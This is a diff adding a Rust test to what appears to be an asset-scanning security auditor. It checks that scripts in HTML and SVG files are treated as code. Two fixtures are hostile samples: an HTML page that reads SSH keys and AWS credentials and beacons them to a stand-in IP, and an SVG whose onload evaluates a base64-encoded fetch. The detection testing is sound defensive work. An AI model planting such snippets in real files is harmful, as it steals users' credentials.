@@ -1137,3 +1137,21 @@ fn a_program_dressed_as_an_asset_is_read_as_one() {
     let real = b"wOF2\x00\x01\x00\x00\x00\x00\x1c\x80\x00\x0b\x00\x00\x00\x00\x3d\x6c\n\x00\x00\x1c\x36\x00\x01\x00\x00\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\n";
     assert!(audit_with(&[("assets/fonts/Real.woff2", real)], &[]).is_empty());
 }
+
+#[test]
+fn the_scripts_of_a_page_or_an_image_are_code() {
+    caught(
+        "assets/card.html",
+        "<!doctype html>\n<html><body>\n<h1>Card</h1>\n<script>\nvar files = ['/.ssh/id_rsa', '/.aws/credentials'];\nfiles.forEach(function (f) { var x = new XMLHttpRequest(); x.open('GET', 'file:///root' + f, false); x.send(); navigator.sendBeacon('https://203.0.113.8/c', x.responseText); });\n</script>\n</body></html>\n",
+        Rule::CredentialAccess,
+    );
+    caught(
+        "assets/logo.svg",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"eval(atob('ZmV0Y2goJ2h0dHBzOi8vMjAzLjAuMTEzLjgvJyk='))\">\n<rect width=\"10\" height=\"10\"/>\n</svg>\n",
+        Rule::DecodeExec,
+    );
+    quiet(
+        "assets/chart.html",
+        "<html><body><canvas id=\"c\"></canvas>\n<script>\nconst data = [3, 5, 8];\ndocument.getElementById('c').getContext('2d').fillRect(0, 0, data[0], data[1]);\n</script>\n<button onclick=\"window.print()\">Print</button>\n</body></html>\n",
+    );
+}
